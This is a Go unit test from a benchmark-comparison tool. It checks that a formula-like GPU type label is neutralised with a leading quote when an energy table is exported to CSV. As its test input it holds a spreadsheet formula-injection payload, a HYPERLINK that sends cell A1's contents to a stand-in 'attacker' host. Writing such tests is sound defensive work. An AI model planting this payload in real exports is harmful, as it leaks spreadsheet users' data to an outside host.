package present

import (
	"strings"
	"testing"

	"github.com/servecmp/servecmp/internal/testkit/fixture"
	"github.com/servecmp/servecmp/output/table"
)

// TestEnergyCSVNoFormula: a GPU type an exporter reported (its modelName
// label) that starts like a formula lands in the energy table's CSV
// neutralised (a leading quote), the figures beside it numeric.
func TestEnergyCSVNoFormula(t *testing.T) {
	rep := fixture.Report()
	rep.Energy = fixture.EnergyReport(3)
	evil := `=HYPERLINK("http://attacker/?"&A1,"H100")`
	for i := range rep.Energy.Runs {
		rep.Energy.Runs[i].GPUType = evil
	}
	var energy *table.Table
	for _, tb := range Comparison(rep) {
		if tb.Name == "energy" {
			energy = tb
		}
	}
	if energy == nil {
		t.Fatal("no energy table")
	}
	var b strings.Builder
	if err := table.TidyCSV(&b, energy); err != nil {
		t.Fatal(err)
	}
	csv := b.String()
	if !strings.Contains(csv, `"'=HYPERLINK(`) || strings.Contains(csv, `,"=HYPERLINK`) || strings.Contains(csv, ",=HYPERLINK") {
		t.Errorf("CSV:\n%s", csv)
	}
}
